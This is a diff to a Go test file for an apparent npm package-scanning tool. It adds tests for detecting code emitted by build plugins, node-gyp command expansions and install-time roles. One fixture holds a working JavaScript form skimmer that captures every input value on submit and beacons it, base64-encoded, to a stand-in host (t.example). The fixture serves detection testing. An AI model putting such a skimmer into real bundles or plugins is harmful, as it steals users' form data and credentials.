@@ -285,6 +285,80 @@ func TestEmbeddedCode(t *testing.T) {
 	}
 }
 
+// A build plugin that appends a runtime built in another module to the
+// bundles it emits: the runtime, built around a run-time value, is
+// analysed as code of the plugin's entry point, and findings on it take
+// that role. The same text nothing emits is not code.
+func TestEmbeddedBuildOutput(t *testing.T) {
+	runtime := `exports.runtimeFor = (id) => '(function(){var c="' + id + '";document.addEventListener("submit",function(){` +
+		`var o={};document.querySelectorAll("input").forEach(function(i){o[i.name]=i.value});` +
+		`new Image().src="https://t.example/p.gif?c="+c+"&d="+btoa(JSON.stringify(o))},true)})();';`
+	for _, emits := range []bool{true, false} {
+		index := "const { runtimeFor } = require('./lib/runtime');\n"
+		if emits {
+			index += "module.exports = (compilation, sources, name, asset) => compilation.updateAsset(name, new sources.ConcatSource(asset, runtimeFor(name)));"
+		} else {
+			index += "module.exports = (name) => runtimeFor(name).length;"
+		}
+		tg := NewTarget(pkgFS(map[string]string{
+			"package.json":   `{"name":"a","version":"1.0.0","main":"index.js"}`,
+			"index.js":       index,
+			"lib/runtime.js": runtime,
+		}), DefaultLimits())
+		var got string
+		for _, f := range tg.Code() {
+			if strings.HasPrefix(f.Name, "lib/runtime.js#text:") {
+				got = f.Name
+				if !slices.ContainsFunc(f.Facts.Members, func(m jsast.Member) bool { return m.Name == "document.querySelectorAll" }) &&
+					!slices.ContainsFunc(f.Facts.Calls, func(c jsast.Call) bool { return c.Callee == "document.querySelectorAll" }) {
+					t.Errorf("emitted runtime's facts lack the page reads: %+v", f.Facts.Calls)
+				}
+			}
+		}
+		switch {
+		case emits && got == "":
+			t.Error("runtime a plugin emits not analysed as code")
+		case emits && tg.Role(got) != RoleEntry:
+			t.Errorf("role of %s = %s, want entry", got, tg.Role(got))
+		case !emits && got != "":
+			t.Errorf("text nothing emits analysed as code: %s", got)
+		}
+	}
+}
+
+// node-gyp runs binding.gyp's command expansions while it configures the
+// build: the files they run with node are install-time code.
+func TestGypCommandExpansions(t *testing.T) {
+	gyp := `{ "variables": { "cfg": "<!(node tools/gen.js)" }, "targets": [{ "target_name": "x",
+  "include_dirs": ["<!@(node -p \"require('node-addon-api').include\")"], "libraries": ["<!@(pkg-config --libs (x))"] }] }`
+	var got []string
+	for _, c := range GypCommands(gyp) {
+		got = append(got, c.Command)
+	}
+	if want := []string{"node tools/gen.js", `node -p "require('node-addon-api').include"`, "pkg-config --libs (x)"}; !slices.Equal(got, want) {
+		t.Errorf("GypCommands = %q, want %q", got, want)
+	}
+	for _, tc := range []struct {
+		scripts string
+		want    Role
+	}{
+		{``, RoleInstall}, // the implicit node-gyp rebuild
+		{`"install": "prebuild-install || node-gyp rebuild"`, RoleInstall},          // a script that builds
+		{`"install": "node scripts/download-binary.js"`, RoleOther},                 // node-gyp never runs
+		{`"preinstall": "echo hi", "postinstall": "node-gyp rebuild"`, RoleInstall}, // built after all
+	} {
+		tg := NewTarget(pkgFS(map[string]string{
+			"package.json":               `{"name":"a","version":"1.0.0","scripts":{` + tc.scripts + `}}`,
+			"binding.gyp":                gyp,
+			"tools/gen.js":               "require('fs').writeFileSync('x', '1')",
+			"scripts/download-binary.js": "",
+		}), DefaultLimits())
+		if got := tg.Role("tools/gen.js"); got != tc.want {
+			t.Errorf("scripts {%s}: role of tools/gen.js = %s, want %s", tc.scripts, got, tc.want)
+		}
+	}
+}
+
 func TestPartialPackage(t *testing.T) {
 	tg := NewTarget(pkgFS(map[string]string{"postinstall.js": "", "lib/a.js": ""}), DefaultLimits())
 	if !tg.Partial() || tg.Role("postinstall.js") != RoleInstall || tg.Role("lib/a.js") != RoleEntry {
@@ -363,6 +437,10 @@ func TestRetainedHead(t *testing.T) {
 		{"dist/site.css", "// generated\n/* theme */ module.exports = {}", true},
 		{"dist/app.css", "/*! theme */\n:root { --r: 1px; }", false},
 		{"dist/open.css", "/*! a banner longer than the head", false},
+		// a CI workflow kept as a template
+		{"templates/lint.yml.tpl", "name: lint\non:\n  push:\n", true},
+		{"templates/ci.tmpl", "jobs:\n  test:\n", true},
+		{"templates/page.tmpl", "<html><body>on: sale</body></html>", false},
 	} {
 		if got := RetainedHead(tc.name, []byte(tc.head)); got != tc.want {
 			t.Errorf("RetainedHead(%q, %q) = %v, want %v", tc.name, tc.head, got, tc.want)
